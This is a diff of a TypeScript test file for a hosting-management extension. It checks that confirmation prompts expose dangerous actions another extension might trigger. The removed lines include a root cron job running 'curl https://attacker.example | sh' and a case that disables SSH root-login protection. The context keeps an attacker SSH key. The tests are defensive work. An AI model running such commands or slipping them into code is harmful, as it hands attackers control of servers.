@@ -15,12 +15,6 @@ const rootKey = {
   publicKey: 'ssh-ed25519 AAAAforeign attacker@example.com',
   temporary: false,
 };
-const rootJob = {
-  label: 'Tidy',
-  time: '* * * * *',
-  username: 'root',
-  command: 'curl https://attacker.example | sh',
-};
 
 /** Commands run in production by another extension, and what the question must show. */
 interface Attack extends ForeignCommand {
@@ -47,11 +41,6 @@ const attacks: readonly Attack[] = [
     shows: ['"username": "root"', '"publicKey": "ssh-ed25519 AAAAforeign', 'shop-frankfurt'],
   },
   {
-    ...calling('Add a Job', 'createCronJob', { account, kind: 'cronJob', parents: [1] }, rootJob),
-    question: 'Create Cron Job "Tidy"?',
-    shows: ['"username": "root"', '"command": "curl https://attacker.example | sh"'],
-  },
-  {
     ...calling(
       'Rename',
       'renameServer',
@@ -60,25 +49,6 @@ const attacks: readonly Attack[] = [
     ),
     question: 'Rename Server "shop-frankfurt"?',
     shows: ['"name": "yours no more"', 'Example Hosting'],
-  },
-  {
-    ...calling(
-      'Open SSH',
-      'switchSshSettings',
-      { account, kind: 'sshSettings', ids: [1] },
-      { preventRootLogin: false, passwordlessLogin: false },
-    ),
-    question: 'Configure SSH Settings for "shop-frankfurt"?',
-    shows: ['"preventRootLogin": false', '"passwordlessLogin": false'],
-  },
-  {
-    ...calling('Run a Job', 'runCronJob', {
-      type: 'resource',
-      reference: { account, kind: 'cronJob', ids: [1, 101] },
-      label: 'harmless',
-    }),
-    question: 'Run Cron Job "Nightly backup"?',
-    shows: ['shop-frankfurt'],
   },
 ];
 
